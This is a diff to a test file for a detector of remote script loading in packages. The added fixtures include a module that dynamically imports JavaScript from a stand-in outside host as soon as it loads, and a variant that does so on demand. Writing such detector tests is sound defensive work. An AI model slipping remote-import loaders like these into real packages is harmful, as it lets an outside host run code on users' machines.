@@ -4,6 +4,23 @@ import { loadsRemoteScript } from './loads-remote-script.ts';
 examine(loadsRemoteScript, {
   speaks: [
     {
+      when: 'a module is imported from another host at once',
+      files: {
+        'index.mjs': `const theme = await import('https://static.other-host.invalid/t.js'); export default theme;`,
+        'package.json': { name: 'themer', version: '1.0.0', type: 'module', main: 'index.mjs' },
+      },
+      weight: 'strong',
+      says: ['static.other-host.invalid'],
+    },
+    {
+      when: 'the same where somebody asks for it',
+      files: {
+        'index.mjs': `const BASE = 'https://static.other-host.invalid'; export const toggle = async () => (await import(BASE + '/t.js')).apply();`,
+        'package.json': { name: 'themer', version: '1.0.0', type: 'module', main: 'index.mjs' },
+      },
+      weight: 'context',
+    },
+    {
       when: 'a page of templates is silent of the script that a list of elements puts into pages, member by member',
       files: {
         'README.md': `# arty\n\nTemplates that are compiled once and filled in as often as you like, in browsers and on Node. Escapes what it fills in.`,
